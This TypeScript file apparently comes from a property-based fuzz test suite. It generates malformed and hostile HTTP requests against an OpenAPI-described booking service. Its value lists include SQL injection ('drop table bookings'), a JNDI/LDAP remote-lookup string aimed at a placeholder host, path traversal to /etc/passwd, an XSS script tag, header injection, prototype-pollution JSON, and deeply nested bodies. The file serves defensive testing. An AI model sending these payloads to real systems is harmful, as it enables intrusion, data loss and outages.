/**
 * Calls as somebody writes them who wants to see the service fall: bodies, addresses and headers near
 * to what the OpenAPI document describes, with something hostile in a few of their places.
 */
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import type { Operation } from '../support/wire.ts'

export type HostileCall = {
  method: string
  path: string
  headers: Record<string, string>
  body: Buffer | undefined
}

/** JSON as it is written, where no value of JavaScript says it: `1e400`, a key twice. */
class Written {
  readonly text: string
  constructor(text: string) {
    this.text = text
  }
}

const written = [
  '1e400',
  '-1e400',
  '-0',
  '0.1',
  '1e-7',
  '9007199254740993',
  '-9223372036854775809',
  '123456789012345678901234567890',
  'NaN',
  'Infinity',
  'undefined',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"a\\u0000b"',
  '{"a":1,"a":2}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  `[${'1,'.repeat(9_999)}1]`,
  `[${'{},'.repeat(9_999)}{}]`,
  '[',
  '"',
].map(text => new Written(text))

const texts = [
  '',
  ' ',
  'null',
  'true',
  '-1',
  '0',
  '1e309',
  'NaN',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\ufeff',
  '\u202etxet',
  '%s%s%n%x',
  '%',
  '%00',
  '$1',
  '{{7*7}}',
  '$' + '{jndi:ldap://x.example/a}',
  "'; drop table bookings; --",
  "' or '1'='1",
  '1); drop table bookings; --',
  '\\',
  '"',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  'a\r\nx-injected: 1',
  '__proto__',
  'constructor',
  'toString',
  '0000-01-01',
  '2026-02-30',
  '9999-12-31',
  '2199-12-31',
  '2026-02-30T00:00:00Z',
  '9999-12-31T23:59:59.999999999+14:00',
  '+275760-09-13T00:00:00.001Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '😀'.repeat(60),
  'x'.repeat(5_000),
  'é'.repeat(100_000),
]

const text = fc.oneof(fc.constantFrom(...texts), fc.string({ unit: 'binary', maxLength: 40 }))
const wild: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...written),
  text,
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.maxSafeInteger(),
  fc.constantFrom<unknown>(null, true, [], {}, -1, 0, 2 ** 31, 2 ** 53, [null], [[]], { a: {} }),
  fc.jsonValue({ maxDepth: 3 }),
)
const strangeKey = fc.constantFrom(
  '__proto__',
  'constructor',
  'toString',
  'ID',
  '',
  'a\u0000',
  '/~0',
)

/** How bytes are made of the text of a body, and what the header says of it. */
const encodings: ((body: string) => { body: Buffer; headers: Record<string, string> })[] = [
  body => ({ body: Buffer.from(body, 'utf16le'), headers: {} }),
  body => ({
    body: Buffer.from(body, 'latin1'),
    headers: { 'content-type': 'application/json; charset=latin1' },
  }),
  body => ({ body: Buffer.from(`\ufeff${body}`), headers: {} }),
  body => ({
    body: Buffer.concat([Buffer.from(body), Buffer.from([0xff, 0xc0, 0x80])]),
    headers: {},
  }),
  body => ({ body: Buffer.concat([Buffer.from([0xff]), Buffer.from(body.slice(1))]), headers: {} }),
  body => ({ body: Buffer.from(body.slice(0, -2)), headers: {} }),
  body => ({ body: gzipSync(body), headers: { 'content-encoding': 'gzip' } }),
  body => ({ body: Buffer.from(body), headers: { 'content-encoding': 'br' } }),
  body => ({
    body: Buffer.from(body),
    headers: { 'content-type': 'application/json; charset=utf-16' },
  }),
  body => ({ body: Buffer.from(body), headers: { 'content-type': 'application/json;q' } }),
  body => ({ body: Buffer.from(body), headers: { 'content-type': 'text/plain' } }),
  body => ({
    body: Buffer.from(body),
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
  }),
  body => ({
    body: Buffer.from(body),
    headers: { 'content-type': 'application/JSON ; CHARSET=UTF-8' },
  }),
  body => ({ body: Buffer.from(body), headers: { 'content-type': '' } }),
]

/** What no parser of headers refuses; those are sent by the socket. */
const headerText = fc.oneof(
  fc.constantFrom(
    '*',
    '0',
    '""',
    'W/"x"',
    'respond-async',
    'x'.repeat(1_000),
    'q=1;q=2',
    '\u00ff\u00fe',
    '-1',
  ),
  fc.string({ unit: 'grapheme-ascii', maxLength: 30 }),
)
const headersOf = fc.dictionary(
  fc.constantFrom(
    'idempotency-key',
    'prefer',
    'if-none-match',
    'if-match',
    'last-event-id',
    'traceparent',
    'tracestate',
    'accept',
    'accept-encoding',
    'x-request-id',
    'x-forwarded-for',
    'x-forwarded-host',
    'x-http-method-override',
    'range',
    'origin',
    'cookie',
  ),
  headerText.map(value => value.trim()),
  { maxKeys: 4 },
)

/** Values that exist, by the name of the field that they fit. */
export type Known = Record<string, readonly unknown[]>

export function hostileCalls(
  operations: readonly Operation[],
  known: Known,
): fc.Arbitrary<HostileCall> {
  return fc
    .record({
      operation: fc.constantFrom(...operations),
      seed: fc.nat(),
      wilds: fc.array(wild, { minLength: 2, maxLength: 4 }),
      texts: fc.array(text, { minLength: 2, maxLength: 4 }),
      key: strangeKey,
      headers: headersOf,
      encoding: fc.option(fc.constantFrom(...encodings), { freq: 6 }),
    })
    .map(made => write(made, known))
}

type Made = {
  operation: Operation
  seed: number
  wilds: unknown[]
  texts: string[]
  key: string
  headers: Record<string, string>
  encoding: (typeof encodings)[number] | null
}

function write(
  { operation, seed, wilds, texts, key, headers, encoding }: Made,
  known: Known,
): HostileCall {
  let state = seed
  const roll = (sides: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return (state >>> 8) % sides
  }
  const pick = <T>(list: readonly T[]) => list[roll(list.length)] as T
  const wildText = () => pick(texts)

  /** Mostly what fits, so that what is hostile comes far before somebody looks at it. */
  function fitting(schema: any, name: string): unknown {
    if (known[name] && roll(4) > 0) return pick(known[name])
    if (schema.anyOf) return fitting(pick(schema.anyOf), name)
    if (schema.enum) return pick(schema.enum)
    if (schema.type === 'object') {
      const entries = Object.entries<any>(schema.properties ?? {})
      const required: string[] = schema.required ?? []
      const kept = entries.filter(([each]) => required.includes(each) || roll(3) === 0)
      return Object.fromEntries(kept.map(([each, inner]) => [each, fitting(inner, each)]))
    }
    if (schema.type === 'array') return [fitting(schema.items, name)]
    if (schema.type === 'integer') return (schema.minimum ?? 0) + roll(3)
    if (schema.type === 'boolean') return roll(2) === 0
    if (schema.type === 'null') return null
    if (schema.examples) return schema.examples[0]
    return 'A1'.padEnd(schema.minLength ?? 2, 'x')
  }

  /** One place of a value is made another. */
  function spoil(value: unknown): unknown {
    if (typeof value !== 'object' || value === null || value instanceof Written) return pick(wilds)
    if (Array.isArray(value)) {
      const how = roll(4)
      if (how === 0) return Array.from({ length: 10_000 }, () => value[0])
      if (how === 1) return pick(wilds)
      return value.length === 0 ? [pick(wilds)] : value.with(roll(value.length), spoil(pick(value)))
    }
    const entries = Object.entries(value)
    const how = roll(8)
    if (how === 0 || entries.length === 0) return pick(wilds)
    const [name, inner] = pick(entries)
    if (how === 1) return Object.fromEntries(entries.filter(([each]) => each !== name))
    if (how === 2)
      return new Written(`{${[...entries, [key, pick(wilds)] as const].map(writePair)}}`)
    if (how === 3)
      return new Written(`{${[...entries, [name, pick(wilds)] as const].map(writePair)}}`)
    return { ...value, [name]: spoil(inner) }
  }

  function address(): string {
    const path = operation.path.replace(/\{\w+\}/g, () => {
      if (roll(3) > 0) return String(pick(known.id ?? ['']))
      const given = wildText()
      return roll(4) === 0
        ? given.replace(/[^!-"$-.0-~]/g, '%')
        : encodeURIComponent(given.toWellFormed())
    })
    const pairs = operation.parameters
      .filter(each => each.in === 'query')
      .filter(each => each.required || roll(2) === 0)
      .map(({ name, schema }) => {
        const value = roll(2) === 0 ? wildText() : String(fitting(schema, name))
        const sent =
          roll(5) === 0
            ? value.replace(/[^!-"$-%'-~]/g, '%')
            : encodeURIComponent(value.toWellFormed())
        const named = roll(9) === 0 ? pick([`${name}[]`, `${name}[a]`, `${name}=1&${name}`]) : name
        return `${named}=${sent}`
      })
    if (roll(6) === 0)
      pairs.push(pick(['__proto__=1', 'constructor[prototype]=1', '%', '=&=', '%ff=%fe']))
    return pairs.length === 0 ? path : `${path}?${pairs.join('&')}`
  }

  const { method } = operation
  // Longer ones are no request for anybody: the limits have a test of their own.
  const path = address().slice(0, 9_000)
  const sendable = Object.fromEntries(
    Object.entries(headers).map(([name, value]) => [
      name,
      value.replace(/[^\t\x20-\x7e\x80-\xff]/g, ''),
    ]),
  )
  if (method === 'GET' && roll(10) > 0) return { method, path, headers: sendable, body: undefined }
  let value: unknown = operation.body === null ? pick(wilds) : fitting(operation.body, '')
  for (let left = roll(4); left > 0; left -= 1) value = spoil(value)
  const json = writeValue(value)
  const sent = encoding === null ? { body: Buffer.from(json), headers: {} } : encoding(json)
  const type = { 'content-type': 'application/json', 'content-length': String(sent.body.length) }
  return { method, path, headers: { ...sendable, ...type, ...sent.headers }, body: sent.body }
}

function writeValue(value: unknown): string {
  if (value instanceof Written) return value.text
  if (Array.isArray(value)) return `[${value.map(writeValue)}]`
  if (typeof value === 'object' && value !== null) {
    return `{${Object.entries(value).map(writePair)}}`
  }
  return Object.is(value, -0) ? '-0' : (JSON.stringify(value) ?? 'null')
}

function writePair([name, value]: readonly [string, unknown]): string {
  return `${JSON.stringify(name)}:${writeValue(value)}`
}
